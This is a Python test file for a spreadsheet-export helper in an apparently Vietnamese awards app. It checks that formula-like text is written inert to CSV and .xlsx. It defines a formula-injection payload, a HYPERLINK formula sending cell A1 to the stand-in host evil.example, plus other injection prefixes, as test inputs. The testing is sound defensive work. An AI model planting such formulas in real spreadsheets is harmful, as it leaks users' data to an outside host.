"""Formula-like text is written inert (CSV quote, .xlsx string cell); numbers stay numbers."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from app.models.awards import AwardCategory, AwardTypeRef, RecipientKind
from app.models.levels import LevelCode
from app.models.units import UnitRef
from app.services import spreadsheets
from app.services.awards import summary

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_text_gets_a_quote_in_csv(text):
    assert spreadsheets.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -2.5, 0, 12, 82.5, "CC_A1", "Chi cục Bến Tre", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheets.csv_cell(value) == value


def test_csv_reads_back_as_text_and_numbers():
    data = spreadsheets.to_csv(["name", "n"], [[EVIL, -5], ["ok", None]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["name", "n"], ["'" + EVIL, "-5"], ["ok", ""]]


def test_xlsx_cells_hold_text_not_formulas():
    book = Workbook()
    sheet = book.active
    spreadsheets.append_row(sheet, [EVIL, "-x", -5, 2.5])
    out = io.BytesIO()
    book.save(out)
    assert b"<f>" not in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.data_type for c in row] == ["s", "s", "n", "n"]
    assert [c.value for c in row] == [EVIL, "-x", -5, 2.5]


def test_the_award_summary_xlsx_writes_names_as_text():
    issuer = UnitRef(
        id=1, code="CUC", name=EVIL, kind=LevelCode.provincial_department, is_external=False
    )
    award = AwardTypeRef(code="GK", name_vi="@Giấy khen", category=AwardCategory.form)
    result = summary.AwardSummary(
        year=2022,
        unit=issuer,
        include_all=False,
        rows=[
            summary.SummaryRow(
                issuer=issuer,
                award_type=award,
                recipient_kind=RecipientKind.collective,
                external=False,
                count=3,
            )
        ],
        totals=summary.SummaryTotals(awards=3, collective=3, individual=0, internal=3, external=0),
    )
    sheet = load_workbook(io.BytesIO(summary.to_xlsx(result))).active
    row = [c for c in sheet[4]]
    assert (row[1].value, row[1].data_type) == (EVIL, "s")
    assert (row[2].value, row[2].data_type) == ("@Giấy khen", "s")
    assert (row[5].value, row[5].data_type) == (3, "n")
